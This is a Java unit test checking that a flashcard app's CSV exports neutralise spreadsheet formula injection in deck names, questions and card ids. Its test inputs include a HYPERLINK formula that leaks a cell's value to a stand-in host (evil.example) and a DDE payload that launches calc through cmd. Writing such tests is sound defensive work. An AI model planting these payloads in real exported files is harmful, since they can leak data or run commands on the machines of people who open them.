package dev.prepdeck.stats;

import static org.assertj.core.api.Assertions.assertThat;

import dev.prepdeck.TestCollection;
import java.io.StringReader;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * CSV injection: text a person typed (deck names, questions, card ids) reaches the CSV downloads as text a
 * spreadsheet shows, never as a formula it runs.
 */
class CsvExportTest {
    @TempDir
    Path tempDir;

    @Test
    void cells_that_a_spreadsheet_would_run_as_formulas_are_quoted_text() {
        assertThat(CsvCell.of("=HYPERLINK(\"http://evil.example\",\"x\")"))
                .isEqualTo("\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\"");
        assertThat(CsvCell.of("@SUM(A1:A9)")).isEqualTo("\"'@SUM(A1:A9)\"");
        assertThat(CsvCell.of("+1")).isEqualTo("\"'+1\"");
        assertThat(CsvCell.of("-1+1")).isEqualTo("\"'-1+1\"");
        assertThat(CsvCell.of("\t=1")).isEqualTo("\"'\t=1\"");
        assertThat(CsvCell.of("\r=1")).isEqualTo("\"'\r=1\"");
    }

    @Test
    void ordinary_cells_follow_rfc_4180() {
        assertThat(CsvCell.of("plain")).isEqualTo("plain");
        assertThat(CsvCell.of("")).isEmpty();
        assertThat(CsvCell.of("a, b")).isEqualTo("\"a, b\"");
        assertThat(CsvCell.of("say \"hi\"")).isEqualTo("\"say \"\"hi\"\"\"");
        assertThat(CsvCell.of("1 = 1")).isEqualTo("1 = 1");
        assertThat(CsvCell.row("a", "=b", "c,d")).isEqualTo("a,\"'=b\",\"c,d\"\r\n");
    }

    @Test
    void the_review_log_download_keeps_formulas_in_deck_names_questions_and_ids_inert() {
        String formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";
        TestCollection collection = TestCollection.of(tempDir,
                "hyperlink.md", "# " + formula + "\n\n## @SUM(1+1)*cmd|' /C calc'!A0\n<!-- id: -1 -->\n\nAnswer one.\n",
                "plus.md", "# +1\n\n## -1+1\n<!-- id: plain-id -->\n\nAnswer two.\n");
        List<Long> cards = collection.list("SELECT id FROM card ORDER BY id", Long.class);
        collection.site(s -> {
            for (long card : cards) {
                assertThat(s.postJson("/api/review", "{\"cardId\":" + card + ",\"rating\":3,\"durationMs\":4000}").code())
                        .isEqualTo(200);
            }
            String csv = s.page("/stats/review-log.csv");
            List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().get().parse(new StringReader(csv)).getRecords();
            Map<String, CSVRecord> byDeck = rows.stream().collect(Collectors.toMap(r -> r.get("deck"), r -> r));

            assertThat(byDeck).containsOnlyKeys("'" + formula, "'+1");
            CSVRecord first = byDeck.get("'" + formula);
            assertThat(first.get("question")).isEqualTo("'@SUM(1+1)*cmd|' /C calc'!A0");
            assertThat(first.get("card_uid")).isEqualTo("'-1");
            assertThat(byDeck.get("'+1").get("question")).isEqualTo("'-1+1");
            assertThat(byDeck.get("'+1").get("card_uid")).isEqualTo("plain-id");
            assertThat(byDeck.get("'+1").get("rating")).isEqualTo("good");
            assertThat(csv).doesNotContain(",=").doesNotContain(",@").doesNotContain(",+").doesNotContain(",-");

            String perDay = s.page("/stats/reviews-per-day.csv?days=1");
            assertThat(perDay).isEqualTo("date,learning,review,relearning,total,seconds\r\n2026-03-02,2,0,0,2,8\r\n");
        });
    }
}
